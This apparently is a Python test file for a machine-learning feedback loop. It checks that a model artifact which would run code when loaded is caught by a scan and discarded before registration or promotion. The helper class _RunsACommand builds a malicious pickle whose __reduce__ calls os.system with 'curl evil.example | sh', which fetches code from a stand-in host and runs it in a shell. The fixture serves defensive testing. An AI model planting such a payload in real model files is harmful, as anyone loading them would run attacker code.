"""The feedback loop's artifact gate: a retrained model whose artifact would run code when loaded is never
registered (a training run's own registration is blocked at the gate); the reason names the finding."""

from __future__ import annotations

import os
import pickle
from pathlib import Path

import numpy as np

from foresight.adapters.audit_log import AuditLog
from foresight.adapters.local_registry import LocalRegistry
from foresight.clock import ManualClock
from foresight.feedback import Candidate, DecaySignal, FeedbackLoop, LoopPolicy
from foresight.registry import CHAMPION, GATE_TAG, SCAN_TAG
from foresight.runtime.model_loop import scan_candidate
from tests.feedback.test_feedback_loop import ScriptedCanary

DRIFT = DecaySignal(True, 0.4, "PSI 0.4 > 0.2")


class _RunsACommand:
    """Pickles to a call of os.system (never unpickled here)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, ("curl evil.example | sh",))


def _loop(tmp_path: Path, candidate: Candidate) -> tuple[FeedbackLoop, LocalRegistry, AuditLog]:
    clock = ManualClock(0.0)
    registry = LocalRegistry(tmp_path / "r.db", clock=clock)
    v1 = registry.register("m", params={}, metrics={"accuracy": 0.93}, code_commit="c", data_version="old", seed=0)
    registry.set_alias("m", CHAMPION, v1.version)
    audit = AuditLog("sqlite://")
    loop = FeedbackLoop("m", LoopPolicy(), registry, lambda now: candidate, ScriptedCanary(True), clock, audit=audit,
                        scan=scan_candidate)
    return loop, registry, audit


def test_a_poisoned_model_file_is_discarded_before_registration(tmp_path: Path) -> None:
    poisoned = tmp_path / "candidate.bin"
    poisoned.write_bytes(pickle.dumps(_RunsACommand()))
    loop, registry, audit = _loop(tmp_path, Candidate(None, {}, {"accuracy": 0.95}, "new", 1, model_file=poisoned))
    steps = loop.tick(DRIFT, 0.7)
    assert [s.action for s in steps] == ["retrain", "register", "discard"]
    assert "artifact scan blocked: error" in (steps[1].error or "") and str(poisoned) in (steps[1].error or "")
    assert "system" in steps[2].reason
    assert [v.version for v in registry.list_versions("m")] == [1]  # nothing registered
    assert loop.pending is None
    reasons = [r.reason for r in audit.query(target="m", controller="feedback")]
    assert any(r.startswith("discard: register failed for good") and "artifact scan blocked" in r for r in reasons)


def test_a_clean_model_is_registered_with_its_scan_verdict(tmp_path: Path) -> None:
    loop, registry, _ = _loop(tmp_path, Candidate({"coef": np.ones(3)}, {}, {"accuracy": 0.95}, "new", 1,
                                                  champion_metrics={"accuracy": 0.7}))
    assert [s.action for s in loop.tick(DRIFT, 0.7)] == ["retrain", "register", "gate", "start_canary"]
    assert registry.get("m", 2).tags[SCAN_TAG] == "artifact scan passed: no findings"


def test_a_version_a_training_run_registered_is_blocked_at_the_gate(tmp_path: Path) -> None:
    poisoned = tmp_path / "model.joblib"
    poisoned.write_bytes(pickle.dumps(_RunsACommand()))
    loop, registry, _ = _loop(tmp_path, Candidate(None, {}, {}, "new", 1, model_file=poisoned))
    v2 = registry.register("m", params={}, metrics={"accuracy": 0.99}, code_commit="c", data_version="new", seed=1)
    loop.retrain = lambda now: Candidate(None, {}, {"accuracy": 0.99}, "new", 1, model_file=poisoned, version=v2.version)
    steps = loop.tick(DRIFT, 0.7)
    assert [s.action for s in steps] == ["retrain", "gate", "discard"]
    assert steps[2].reason.startswith(f"version {v2.version} blocked: artifact scan blocked: error ")
    tags = registry.get("m", v2.version).tags
    assert tags[GATE_TAG].startswith("blocked: artifact scan blocked") and tags[SCAN_TAG].startswith("artifact scan blocked")
    assert registry.get_alias("m", CHAMPION).version == 1


def test_without_an_artifact_here_the_scan_port_says_so_and_the_gate_judges_metrics(tmp_path: Path) -> None:
    assert scan_candidate(Candidate(None, {}, {}, "d", 1, version=3)) is None
    loop, registry, _ = _loop(tmp_path, Candidate(None, {}, {}, "new", 1))
    v2 = registry.register("m", params={}, metrics={"accuracy": 0.95}, code_commit="c", data_version="new", seed=1)
    loop.retrain = lambda now: Candidate(None, {}, {"accuracy": 0.95}, "new", 1, version=v2.version)
    assert [s.action for s in loop.tick(DRIFT, 0.7)] == ["retrain", "gate", "start_canary"]
    assert SCAN_TAG not in registry.get("m", v2.version).tags
